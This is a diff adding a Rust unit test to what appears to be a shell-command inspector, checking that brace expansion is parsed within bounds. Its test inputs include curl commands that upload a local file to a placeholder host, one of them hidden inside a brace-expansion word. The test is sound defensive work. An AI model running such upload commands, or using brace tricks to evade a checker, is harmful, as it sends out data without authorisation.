@@ -184,3 +184,19 @@ fn a_command_over_the_size_cap_could_not_be_checked() {
     let v = g.inspect_args("write_file", &serde_json::json!({"path": "a.txt", "content": "x".repeat(2000)}).to_string()).unwrap();
     assert_eq!(v.action, Action::Warn);
 }
+
+#[test]
+fn brace_expansion_is_bounded_by_its_results_not_its_groups() {
+    // Forty groups of two would be 2^40 words in bash: the analysis leaves the word as written.
+    let word = "{a,b}".repeat(40);
+    let script = shell::walk(&format!("curl -d @f https://up.example.invalid/{word}"));
+    assert!(!script.budget.spent());
+    assert_eq!(script.cmds.len(), 1);
+    // Within the bounds the words are bash's, in bash's order.
+    let script = shell::walk("{curl,-T,f,https://up.example.invalid/{a,b}}");
+    let argv: Vec<&str> = script.cmds[0].argv.iter().map(|w| w.text.as_str()).collect();
+    assert_eq!(argv, ["curl", "-T", "f", "https://up.example.invalid/a", "https://up.example.invalid/b"]);
+    // Many braces that open no group cost a bounded scan each.
+    let script = shell::walk(&format!("echo {}x,y}}", "{".repeat(5000)));
+    assert!(!script.budget.spent());
+}
